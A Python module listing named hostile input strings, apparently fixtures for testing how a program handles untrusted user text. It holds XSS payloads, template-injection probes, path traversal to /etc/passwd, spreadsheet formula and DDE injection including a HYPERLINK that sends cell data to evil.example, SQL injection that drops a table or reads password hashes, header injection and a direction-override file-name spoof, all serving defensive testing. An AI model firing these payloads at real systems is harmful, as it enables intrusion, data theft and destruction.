r"""A hundred texts that try to be more than text, each with a name, and those that must be refused.

`HOSTILE` are texts that somebody may type: they are kept and shown as they are. What is marked as
lines holds line breaks or tabs, so that only fields of several lines take it. `REFUSED` may stand
nowhere. Invisible characters are written by their numbers, so that a reader sees them.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One text and what it tries to be."""

    name: str
    text: str

    @property
    def stored(self) -> str:
        """What the program says it keeps: NFC, one kind of line break, no blanks around it."""
        text = self.text.replace("\r\n", "\n").replace("\r", "\n")
        return unicodedata.normalize("NFC", text).strip()

    @property
    def lines(self) -> bool:
        """Whether only a field of several lines takes it."""
        return any(mark in self.text.strip() for mark in "\r\n\t\u2028\u2029")


MARKUP = {
    "script": "<script>window.__hit('script')</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script that breaks out of a script": "</script><script>window.__hit('broke out')</script>",
    "script with a slash": "<script/x>window.__hit('slash')</script >",
    "image": "<img src=x onerror=window.__hit('image')>",
    "image with quotes": '<img src="x" onerror="window.__hit(\'quoted\')">',
    "image without an end": "<img src=x onerror=window.__hit('open') ",
    "drawing": "<svg onload=window.__hit('svg')>",
    "drawing with a script": "<svg><script>window.__hit('svg script')</script></svg>",
    "moving drawing": "<svg><animate onbegin=window.__hit('animate') attributeName=x dur=1s>",
    "styles": "<style>body{display:none}</style>",
    "styles from elsewhere": "<link rel=stylesheet href=//evil.example/x.css>",
    "frame": "<iframe srcdoc='<script>parent.__hit(1)</script>'></iframe>",
    "base": "<base href=//evil.example/>",
    "another address after a while": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "form": "<form action=//evil.example/><button>Sign in</button></form>",
    "field that takes the focus": "<input autofocus onfocus=window.__hit('focus')>",
    "details": "<details open ontoggle=window.__hit('toggle')>",
    "table parts": "</td></tr></table><h1>Gone</h1>",
    "end of the page": "</main></body></html>",
    "end of a text area": "</textarea><script>window.__hit('area')</script>",
    "end of a title": "</title><script>window.__hit('title')</script>",
    "end of an option": "</option></select></datalist><img src=x onerror=__hit(1)>",
    "comment": "<!-- <script>window.__hit('comment')</script>",
    "comment that ends early": "--><img src=x onerror=window.__hit('arrow')><!--",
    "cdata": "<![CDATA[<script>window.__hit('cdata')</script>]]>",
    "maths": "<math><mtext><table><mglyph><style><img src=x onerror=__hit(1)>",
    "broken tag": "<<b>>bold</<b>",
    "lone angle": "a < b > c <",
    "entities": "&lt;b&gt; &amp; &quot; &#60;script&#62;",
    "entity without an end": "&lt &#x3c script &#60",
    "attribute, double quotes": '" autofocus onfocus="window.__hit(1)" x="',
    "attribute, single quotes": "' onmouseover='window.__hit(1)' x='",
    "attribute without quotes": "x onclick=window.__hit(1)",
    "backtick": "`onmouseover=window.__hit(1)`",
    "end of a tag": '"><script>window.__hit("end")</script>',
}

TEMPLATES = {
    "sum of a template": "{{7*7}}",
    "inside of a template": "{{ config.items() }}",
    "statement of a template": "{% for x in [1] %}49{% endfor %}",
    "comment of a template": "{# gone #}",
    "dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "places by name": "%(name)s %(text)s %(nothing)s",
    "places": "%s %d %n %% 100%",
    "braces": "{0} {} {name!r:>30}",
    "attributes of a format": "{0.__class__.__mro__}",
}

LINKS = {
    "javascript": "javascript:window.__hit('link')",
    "javascript with a case": "JaVaScRiPt:window.__hit('link')",
    "data": "data:text/html,<script>window.__hit('data')</script>",
    "other host": "//evil.example/path",
    "backslashes": "/\\evil.example and C:\\temp\\new",
    "path": "../../../../etc/passwd",
    "path, encoded": "..%2f..%2f%00%0d%0aX: y",
    "address with a query": "https://example.org/?a=1&b=2&copy=3#four",
}

CELLS = {
    "formula": "=1+1",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "program of a spreadsheet": "=cmd|'/C calc'!A0",
    "exchange of data": '=DDE("soffice";"/etc/passwd";"a")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1)",
    "apostrophe": "'tis an apostrophe",
    "apostrophe before a formula": "'=1+1",
    "two apostrophes": "''=1+1",
    "formula after a comma": 'x,=1+1,"=2+2"',
    "quotes": 'He said "no", "no" and ""',
    "one quote": '"',
    "semicolons": "a;b;;c;",
    "pipes": "a|b||c|",
    "backslash at the end": "ends with \\",
    "backslashes before marks": "\\; \\| \\\\ \\n",
    "number of a record": "#1",
    "name and number": "Somebody #1",
    "new": "Somebody #new",
}

PROTOCOLS = {
    "breaks of a calendar, written": "one\\ntwo\\, three\\; four",
    "property of a calendar": "SUMMARY:x;LANGUAGE=en:y",
    "quotes of a parameter": 'X";CN="evil":mailto:a@b',
    "end of an event": "END:VEVENT BEGIN:VEVENT",
    "long line": "0123456789" * 29,
    "long line of wide letters": "ж" * 290,
    "json": '"}],"x":[{"y":"',
    "json, written": '\\u003cscript\\u003e \\" \\/',
    "sql": "'; DROP TABLE agreement; --",
    "sql, union": '" UNION SELECT password_hash FROM account --',
    "wildcards": "%_%\\%[a-z]*?",
}

LETTERS = {
    "marks of direction": "\u200eleft\u200f right \u061c",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "right to left": "توافق‌نامهٔ «همکاری» (۱۴۰۱) <b>",
    "two directions": "abc אבג 123 <i>",
    "decomposed": "Cafe\u0301 A\u030a\u0323",
    "composed": "Ünïcödé Ạ̊ Ǟ",
    "heap of marks": "Z" + "\u0300\u0316\u0347" * 12,
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇿",
    "letters that look alike": "Аdmіnіstrаtоr",
    "letters that grow": "ﷺ ß ŉ ΐ ﬃ" * 12,
    "dotted i": "İıIi ſ K Å",
    "beyond the first plane": "𝒜𝓁𝒾 \U0010fffd",
    "soft hyphen and joiners": "a\u00adb\u2060c\u180ed",
    "kinds of blanks": "a\u00a0b\u2003c\u3000d",
    "no letter at all": "!!! ??? …",
}

WORDS = {
    "null": "null",
    "None": "None",
    "not a number": "NaN",
    "endless": "1e999",
    "true": "true",
    "on": "on",
    "undefined": "undefined",
    "blanks around": "   between blanks   ",
}

SEVERAL_LINES = {
    "lines": "one\ntwo\r\nthree\rfour",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\n",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__hit('header')</script>",
    "rows of a file": 'x\r\n=1+1,"=2+2\r\n',
    "formula on the second line": "x\n=1+1\n+2\n@SUM(3)",
    "tab": "a\tb\t=1+1",
    "separator of lines": "one\u2028two\u2029three",
}

HOSTILE: tuple[Hostile, ...] = tuple(
    Hostile(name, text)
    for kind in (MARKUP, TEMPLATES, LINKS, CELLS, PROTOCOLS, LETTERS, WORDS, SEVERAL_LINES)
    for name, text in kind.items()
)

REFUSED = {
    "nul": "a\x00b",
    "bell": "a\x07b",
    "escape": "\x1b[31mred",
    "backspace": "admin\x08\x08",
    "delete": "a\x7fb",
    "control of the second kind": "a\x85\x9fb",
    "override of direction": "exe\u202egnp.doc",
    "isolate of direction": "a\u2066b\u2069",
    "no character": "a\uffff",
}
